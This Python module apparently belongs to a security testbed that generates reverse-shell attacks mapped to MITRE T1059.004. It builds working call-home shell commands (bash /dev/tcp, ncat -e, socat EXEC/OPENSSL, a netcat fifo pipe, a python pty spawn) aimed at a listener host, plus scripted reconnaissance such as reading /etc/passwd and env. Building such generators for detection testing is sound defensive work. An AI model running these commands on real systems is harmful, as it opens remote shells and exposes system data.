"""Shells that call home after a break-in."""

from testbed.attacks.material import INSIDE, certificate, collector, listening
from testbed.catalogue import Assault, attack

SHELL = "T1059.004"
COMMANDS = (
    "id",
    "uname -a",
    "cat /etc/passwd",
    "ls -la /home",
    "ps aux",
    "cat /proc/net/tcp",
    "cat /etc/os-release",
    "df -h",
    "find /usr -maxdepth 2 | head -300",
    "ls -laR /etc/ssl | head -400",
    "cat /etc/services",
    "hostname",
    "w",
    "date",
    "cat /etc/hosts",
    "ip address",
    "env",
    "ls -la /var/log",
    "find / -perm -4000 -type f 2>/dev/null | head -40",
    "cat /etc/crontab",
    "mount | head -20",
    "whoami",
    "cat /etc/resolv.conf",
)


def typed(c) -> str:
    """Shell commands that print what somebody types into a shell, at the pace of a person or a script."""
    pace = c.choose((0.2, 0.8), (0.6, 3.0), (1.0, 5.0))
    asked = ["id", *c.random.sample(COMMANDS[1:], c.between(3, 8))]
    steps = "; ".join(f"sleep {c.between(*pace)}; echo '{command}'" for command in asked)
    return f"({steps}; sleep {c.between(*pace)}; echo exit; sleep 1)"


def shell(c, connect, listen: str = "ncat -l -p {port}") -> Assault:
    """A shell that connects to the attacker; `connect` makes the command of address and port."""
    host = collector(c)
    port = c.choose(4444, 1337, 8081, 53535, 6666, *(c.between(10000, 60000) for _ in range(6)))
    listener = f"{typed(c)} | timeout 40 {listen.format(port=port)}"
    return Assault(connect(host.address, port), **listening(listener, host))


def reverse_shell(tool: str, packages=()):
    return attack("reverse_shell", technique=SHELL, tool=tool, origins=INSIDE, packages=(*packages, "ncat"), seconds=45)


@reverse_shell("bash")
def bash_shell(c):
    program = c.choose("bash -i", "sh -i", "bash")
    return shell(c, lambda address, port: f'bash -c "{program} >& /dev/tcp/{address}/{port} 0>&1"')


@reverse_shell("ncat")
def ncat_shell(c):
    return shell(
        c,
        lambda address, port: f"ncat {address} {port} {c.choose('-e', '--sh-exec')} {c.choose('/bin/bash', '/bin/sh')}",
    )


@reverse_shell("ncat --ssl", ("openssl",))
def ncat_tls_shell(c):
    return shell(
        c,
        lambda address, port: f"ncat --ssl {address} {port} -e /bin/bash",
        f"bash -c '{certificate(c)}; exec ncat -l -p {{port}} --ssl --ssl-cert cert.pem --ssl-key key.pem'",
    )


@reverse_shell("socat", ("socat",))
def socat_shell(c):
    program = c.choose("EXEC:/bin/sh", 'EXEC:"bash -li",pty,stderr,setsid,sigint,sane', 'EXEC:"bash -i",pty,stderr')
    return shell(c, lambda address, port: f"socat -T 20 {program} TCP:{address}:{port}")


@reverse_shell("socat openssl", ("socat", "openssl"))
def socat_tls_shell(c):
    return shell(
        c,
        lambda address, port: f'socat -T 20 EXEC:"bash -li",pty,stderr,setsid,sane OPENSSL:{address}:{port},verify=0',
        f"bash -c '{certificate(c)};"
        " exec socat - OPENSSL-LISTEN:{port},cert=cert.pem,key=key.pem,verify=0,reuseaddr'",
    )


@reverse_shell("netcat pipe", ("netcat-openbsd",))
def pipe_shell(c):
    return shell(
        c, lambda address, port: f"mkfifo pipe; cat pipe | /bin/sh -i 2>&1 | nc.openbsd -q1 {address} {port} > pipe"
    )


@reverse_shell("python", ("python3",))
def python_shell(c):
    code = (
        "import os,pty,socket,sys; s=socket.create_connection((sys.argv[1],int(sys.argv[2])));"
        " [os.dup2(s.fileno(),n) for n in range(3)]; "
        + c.choose('pty.spawn("/bin/bash")', 'os.execv("/bin/sh",["sh","-i"])')
    )
    return shell(c, lambda address, port: f"timeout 40 python3 -c '{code}' {address} {port}")
